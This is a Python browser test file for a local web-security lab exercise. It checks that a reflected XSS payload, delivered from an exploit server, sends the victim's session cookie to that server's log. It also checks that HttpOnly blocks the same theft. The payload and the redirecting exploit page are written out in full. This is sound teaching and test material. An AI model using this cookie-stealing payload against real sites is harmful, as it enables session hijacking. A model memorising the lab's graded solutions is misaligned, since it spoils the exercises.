"""Sheet 12 in both engines: the exploit server, the XSS attack its solutions describe, graded from the
exploit server's log, and HttpOnly stopping the same payload. Each engine on a stack of its own, so that each
solves the challenges afresh."""

import json
from urllib.parse import quote

import pytest
from engines import SHOTS
from lab_contract.exploit import Store
from local_lab import exploit_folder, running_stack_and_site, wait_until

pytestmark = pytest.mark.browser

# What each test solves (tests/stack/test_challenges.py reads this table).
SOLVES = {
    "test_the_exploit_page_takes_the_victim_to_the_search_page_and_the_session_reaches_the_log": [
        "12-session-to-the-log",
        "12-delivered-cross-site",
    ],
    "test_with_httponly_on_the_same_payload_gets_the_prefs_but_not_the_session": ["12-httponly-keeps-it"],
    "test_the_exploit_server_keeps_what_the_learner_wrote_and_shows_it_as_text": [],
}


@pytest.fixture
def fresh(tmp_path):
    with running_stack_and_site(tmp_path) as stack:
        stack.exploit_store = Store(exploit_folder(tmp_path))
        yield stack


def payload(stack) -> str:
    """The solutions' payload: the page's cookies, to the exploit server's log."""
    log = f"{stack.site}/log/steal?c="
    return f"<script>new Image().src='{log}'+encodeURIComponent(document.cookie)</script>"


def logged(stack, count: int) -> list[dict]:
    return wait_until(
        lambda: (e := stack.exploit_store.entries()[0]) and len(e) >= count and e, 15, f"{count} logged request(s)"
    )


def solved(stack, cid: str) -> dict:
    return wait_until(
        lambda: next((r for r in stack.exploit_solves() if cid in r["solved"]), None), 15, f"the solve of {cid}"
    )


def set_httponly(tab, stack, on: bool) -> None:
    tab.goto(stack.target + "/xss/")
    if ("<strong>on</strong>" in tab.js("document.getElementById('switch-httponly').innerHTML")) != on:
        tab.click("#flip-httponly")


def test_the_exploit_page_takes_the_victim_to_the_search_page_and_the_session_reaches_the_log(fresh, tab):
    set_httponly(tab, fresh, False)
    tab.click("#login")
    session = next(c.split("=", 1)[1] for c in tab.js("document.cookie").split("; ") if c.startswith("lab_session="))
    # The exploit, written in the exploit server's form as a learner does.
    # In the page's own script, the payload's </script> is written <\/script> (the same string to JavaScript,
    # but no end of the page's script block to the HTML parser), as the solution says.
    literal = json.dumps(payload(fresh)).replace("</", "<\\/")
    exploit = f"<script>location = '{fresh.target}/xss/search?q=' + encodeURIComponent({literal})</script>"
    tab.goto(fresh.site + "/exploit-server")
    tab.js(f"document.getElementById('page').value = {json.dumps(exploit)}")
    tab.click("#store button")
    assert "Stored." in tab.text("#saved")
    tab.goto(fresh.site + "/exploit")
    (entry,) = logged(fresh, 1)
    assert entry["path"] == "/log/steal" and f"lab_session%3D{quote(session)}" in entry["query"]
    record = solved(fresh, "12-delivered-cross-site")
    assert record["solved"] == ["12-session-to-the-log", "12-delivered-cross-site"]
    # The flow marked is the search page that ran the payload, reached from the second site.
    page = next(r for r in fresh.records() if r["flow_id"] == record["flow_id"])
    assert page["path"].startswith("/xss/search?q=%3Cscript%3E")
    # The access log shows the stolen value, as text.
    tab.goto(fresh.site + "/exploit-server/log")
    assert "GET /log/steal?c=" in tab.text("main") and quote(session) in tab.text("main")
    tab.screenshot(SHOTS / f"12-exploit-log-{tab.engine}.png")


def test_with_httponly_on_the_same_payload_gets_the_prefs_but_not_the_session(fresh, tab):
    set_httponly(tab, fresh, True)
    tab.click("#login")
    assert "lab_session" not in tab.js("document.cookie")
    tab.goto(f"{fresh.target}/xss/search?q={quote(payload(fresh))}")
    # The session still works: the browser sends it, page script cannot read it.
    assert tab.text("#who") == "Signed in as learner."
    (entry,) = logged(fresh, 1)
    assert entry["query"] == "c=lab_prefs%3Dtheme-dark.lang-en"
    assert solved(fresh, "12-httponly-keeps-it")["steps"] == ["12-httponly-keeps-it#2"]
    # And nothing else: the session never left.
    assert [r["solved"] for r in fresh.exploit_solves() if r["solved"]] == [["12-httponly-keeps-it"]]


def test_the_exploit_server_keeps_what_the_learner_wrote_and_shows_it_as_text(fresh, tab):
    tab.goto(fresh.site + "/exploit-server")
    tab.js("document.getElementById('page').value = '<h1 id=mine>Hello from the attacker</h1>'")
    tab.click("#store button")
    tab.goto(fresh.site + "/exploit-server")
    assert tab.js("document.getElementById('page').value") == "<h1 id=mine>Hello from the attacker</h1>"
    tab.screenshot(SHOTS / f"12-exploit-server-{tab.engine}.png")
    tab.goto(fresh.site + "/exploit")
    assert tab.text("#mine") == "Hello from the attacker"
